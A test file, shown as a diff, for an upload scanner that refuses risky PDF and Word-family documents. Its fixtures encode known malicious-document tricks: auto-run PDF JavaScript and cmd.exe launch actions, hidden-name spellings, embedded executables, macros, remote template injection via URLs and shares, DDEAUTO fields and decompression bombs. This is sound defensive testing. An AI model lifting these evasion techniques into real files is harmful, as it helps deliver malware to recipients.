@@ -1,0 +1,230 @@
+import { expect, test } from 'vitest'
+import { type FileRefusal, fileRefusals } from '../../../src/texts/files'
+import {
+  docFile,
+  docxFile,
+  objectStream,
+  odtFile,
+  pdfFile,
+  pdfStream,
+  relationship,
+} from '../../../tests/fixtures/documents'
+import { zipFile } from '../../../tests/fixtures/zipFile'
+import { detectFileType } from './fileTypes'
+
+const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
+const workbook = zipFile({ 'xl/workbook.xml': '<workbook/>' })
+const europass = pdfStream('/Type /EmbeddedFile', '<?xml version="1.0"?><SkillsPassport/>')
+const rtf = (group: string) => Buffer.from(`{\\rtf1\\ansi ${group} Words}`, 'latin1')
+const template = (target: string, mode = 'External') => relationship('attachedTemplate', target, mode)
+const utf16 = (xml: string) => Buffer.from(`\ufeff${xml}`, 'utf16le')
+
+const wicked: [string, FileRefusal, string, Buffer][] = [
+  ['a script that opening runs', 'pdfScript', 'a.pdf', pdfFile(`/OpenAction ${script}`)],
+  ['a script by reference', 'pdfScript', 'a.pdf', pdfFile('/OpenAction 4 0 R', script)],
+  [
+    'a script under another spelling',
+    'pdfScript',
+    'a.pdf',
+    pdfFile('/OpenAction << /S /J#61vaScript /J#53 (x) >>'),
+  ],
+  [
+    'a script among packed objects',
+    'pdfScript',
+    'a.pdf',
+    pdfFile('/OpenAction 20 0 R', objectStream(script)),
+  ],
+  [
+    'a script between packed strings',
+    'pdfScript',
+    'a.pdf',
+    pdfFile('', objectStream('(a)', '[1 2]', script)),
+  ],
+  ['a script inside a comment', 'pdfScript', 'a.pdf', pdfFile('', `%9 0 obj ${script} endobj`)],
+  ['a program that is launched', 'pdfScript', 'a.pdf', pdfFile('/OpenAction << /S /Launch /F (cmd.exe) >>')],
+  [
+    'a form that sends itself',
+    'pdfScript',
+    'a.pdf',
+    pdfFile('/AA << /O << /S /SubmitForm /F (http://x) >> >>'),
+  ],
+  ['data that is fetched', 'pdfScript', 'a.pdf', pdfFile('/OpenAction << /S /ImportData /F (x) >>')],
+  [
+    'a program inside',
+    'pdfFiles',
+    'a.pdf',
+    pdfFile('', '<< /EF << /F 5 0 R >> >>', pdfStream('/Type /EmbeddedFile', 'MZ')),
+  ],
+  [
+    'a file inside without its type',
+    'pdfFiles',
+    'a.pdf',
+    pdfFile('', '<< /EF << /F 5 0 R >> >>', pdfStream('', 'MZ')),
+  ],
+  [
+    'packed objects under a password',
+    'pdfLocked',
+    'a.pdf',
+    pdfFile('', '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\nsecret\nendstream'),
+  ],
+  [
+    'packing that nobody uses',
+    'pdfLocked',
+    'a.pdf',
+    pdfFile(
+      '',
+      '<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode] >> stream\nx\nendstream',
+    ),
+  ],
+  [
+    'more than is worth a look',
+    'pdfLocked',
+    'a.pdf',
+    pdfFile('', pdfStream('/Type /ObjStm /N 1 /First 4', ' '.repeat(40_000_000))),
+  ],
+  ['strings without an end', 'pdfLocked', 'a.pdf', pdfFile('', '1 0 obj ('.repeat(100_000))],
+  ['macros', 'macros', 'a.docx', docxFile({ 'word/vbaProject.bin': 'x' })],
+  ['macros under another name', 'macros', 'a.docx', docxFile({}, relationship('vbaProject', 'other.bin'))],
+  [
+    'macros by their type',
+    'macros',
+    'a.docx',
+    docxFile({
+      '[Content_Types].xml':
+        '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+    }),
+  ],
+  [
+    'macros behind 4,990 other parts',
+    'macros',
+    'a.docx',
+    docxFile({
+      ...Object.fromEntries(Array.from({ length: 4990 }, (_one, at) => [`word/media/${at}`, ''])),
+      'word/vbaProject.bin': 'x',
+    }),
+  ],
+  ['a program inside', 'objects', 'a.docx', docxFile({ 'word/embeddings/oleObject1.bin': 'x' })],
+  ['a program in another place', 'objects', 'a.docx', docxFile({}, relationship('oleObject', '../x/y.bin'))],
+  ['a control', 'objects', 'a.docx', docxFile({ 'word/activeX/activeX1.xml': '' })],
+  [
+    'a workbook with macros',
+    'objects',
+    'a.docx',
+    docxFile({ 'word/embeddings/a.xlsx': zipFile({ 'xl/workbook.xml': '', 'xl/vbaProject.bin': '' }) }),
+  ],
+  ['a template from elsewhere', 'remote', 'a.docx', docxFile({}, template('http://x.example/t.dotm'))],
+  ['a template from a share', 'remote', 'a.docx', docxFile({}, template('file://///host/t.dotm'))],
+  [
+    'a template in disguise',
+    'remote',
+    'a.docx',
+    docxFile({}, template('&#104;ttp://x.example/t').replace('attachedT', 'attached&#x54;')),
+  ],
+  [
+    'a template in UTF-16',
+    'remote',
+    'a.docx',
+    docxFile({
+      'word/_rels/settings.xml.rels': utf16(`<Relationships>${template('http://x')}</Relationships>`),
+    }),
+  ],
+  [
+    'an object from elsewhere',
+    'remote',
+    'a.docx',
+    docxFile({}, relationship('oleObject', 'http://x/a', 'External')),
+  ],
+  [
+    'another program asked for data',
+    'remote',
+    'a.docx',
+    docxFile({
+      'word/header1.xml': '<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>',
+    }),
+  ],
+  [
+    'a part that unpacks without end',
+    'locked',
+    'a.docx',
+    docxFile({ 'word/header1.xml': ' '.repeat(40_000_000) }),
+  ],
+  ['macros', 'macros', 'a.odt', odtFile({ 'Basic/Standard/Module1.xml': '' })],
+  [
+    'a script at an event',
+    'macros',
+    'a.odt',
+    odtFile({ 'content.xml': '<script:event-listener xlink:href="vnd.sun.star.script:x"/>' }),
+  ],
+  [
+    'a program inside',
+    'objects',
+    'a.odt',
+    odtFile({ 'META-INF/manifest.xml': '<x manifest:media-type="application/vnd.sun.star.oleobject"/>' }),
+  ],
+  ['a password', 'locked', 'a.odt', odtFile({ 'META-INF/manifest.xml': '<manifest:encryption-data/>' })],
+  ['macros', 'macros', 'a.doc', docFile('_VBA_PROJECT')],
+  ['a program inside', 'objects', 'a.doc', docFile('\u0001Ole10Native')],
+  ['a template from elsewhere', 'remote', 'a.rtf', rtf('{\\*\\template http://x.example/t.dotm}')],
+  ['a template from a share', 'remote', 'a.rtf', rtf('{\\*\\template \\\\\\\\host\\\\t.dot}')],
+  ['a template in numbers', 'remote', 'a.rtf', rtf("{\\*\\template \\'68ttp\\u58?//x}")],
+  ['an object', 'objects', 'a.rtf', rtf('{\\object\\objemb{\\*\\objdata 0105}}')],
+  ['an object behind bytes', 'objects', 'a.rtf', rtf('{\\bin1 \\\\objdata 0105}')],
+]
+
+test.each(wicked)('%s is refused as %s: %s', (_what, refusal, name, bytes) => {
+  expect(detectFileType(name, bytes, 2)).toEqual({ refusal: fileRefusals[refusal] })
+})
+
+const harmless: [string, string, Buffer][] = [
+  [
+    'opens at a page, as LaTeX and Acrobat say it',
+    'a.pdf',
+    pdfFile('/OpenAction [3 0 R /Fit] /PageMode /UseOutlines'),
+  ],
+  ['opens at a place', 'a.pdf', pdfFile('/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 1] >>')],
+  [
+    'links to an address',
+    'a.pdf',
+    pdfFile('', '<< /Subtype /Link /A << /S /URI /URI (https://example.org/Launch) >> >>'),
+  ],
+  ['speaks of scripts', 'a.pdf', pdfFile('', '<< /Title (Years of /JavaScript \\( /JS \\) and \\\\) >>')],
+  ['packs its objects', 'a.pdf', pdfFile('', objectStream('<< /Title (/JS) >>', '12', '[3 0 R]'))],
+  ['carries data as Europass does', 'a.pdf', pdfFile('', '<< /EF << /F 5 0 R >> >>', europass)],
+  [
+    'was made with a template of its own machine',
+    'a.docx',
+    docxFile({}, template('file:///C:\\Users\\Sam\\CV.dotx')),
+  ],
+  [
+    'links, and shows a picture from elsewhere',
+    'a.docx',
+    docxFile(
+      {},
+      relationship('hyperlink', 'http://x', 'External') + relationship('image', 'http://x/y.png', 'External'),
+    ),
+  ],
+  [
+    'has a chart',
+    'a.docx',
+    docxFile({
+      'word/embeddings/Microsoft_Excel_Sheet.xlsx': workbook,
+      'word/charts/_rels/chart1.xml.rels': `<Relationships>${relationship('package', '../embeddings/Microsoft_Excel_Sheet.xlsx')}</Relationships>`,
+    }),
+  ],
+  ['has fields', 'a.docx', docxFile({ 'word/footer1.xml': '<w:instrText> PAGE </w:instrText>' })],
+  ['speaks of objects', 'a.rtf', rtf('about \\\\objdata and \\\\template http://x')],
+  [
+    'was made with a template of its own machine',
+    'a.rtf',
+    rtf('{\\*\\template C:\\\\Users\\\\Sam\\\\Normal.dotm}'),
+  ],
+  [
+    'speaks of a package',
+    'a.doc',
+    Buffer.concat([docFile(), Buffer.from('Package Macros', 'utf16le'), Buffer.alloc(200)]),
+  ],
+]
+
+test.each(harmless)('a document that %s is taken: %s', (_what, name, bytes) => {
+  expect(detectFileType(name, bytes, 2)).toEqual({ mime: expect.any(String) })
+})
